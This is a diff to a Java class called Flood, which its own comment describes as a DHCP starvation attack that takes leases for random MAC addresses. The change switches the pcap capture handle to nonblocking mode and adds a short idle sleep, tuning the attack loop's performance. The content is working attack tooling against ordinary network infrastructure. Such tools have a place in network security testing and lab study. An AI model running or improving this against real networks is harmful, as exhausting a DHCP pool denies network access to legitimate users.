@@ -4,6 +4,7 @@ import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.Random;
+import java.util.concurrent.locks.LockSupport;
 import org.pcap4j.core.BpfProgram.BpfCompileMode;
 import org.pcap4j.core.NotOpenException;
 import org.pcap4j.core.PcapHandle;
@@ -12,6 +13,7 @@ import org.pcap4j.core.PcapNetworkInterface.PromiscuousMode;
 
 /** A starvation attack: takes leases for random MACs, each the Ethernet source of its frames. */
 final class Flood {
+  private static final long IDLE_NANOS = 1_000_000;
   private static final int MAGIC = 0x63825363;
 
   private final PcapHandle wire;
@@ -35,6 +37,7 @@ final class Flood {
             .timeoutMillis(10)
             .immediateMode(true)
             .build();
+    wire.setBlockingMode(PcapHandle.BlockingMode.NONBLOCKING);
     wire.setFilter("udp and src port 67", BpfCompileMode.OPTIMIZE);
     new Flood(wire).run(Integer.parseInt(args[0]));
   }
@@ -46,6 +49,8 @@ final class Flood {
       byte[] reply = wire.getNextRawPacket();
       if (reply != null) {
         accept(ByteBuffer.wrap(reply));
+      } else {
+        LockSupport.parkNanos(IDLE_NANOS);
       }
       if (System.nanoTime() >= next) {
         next += gap;
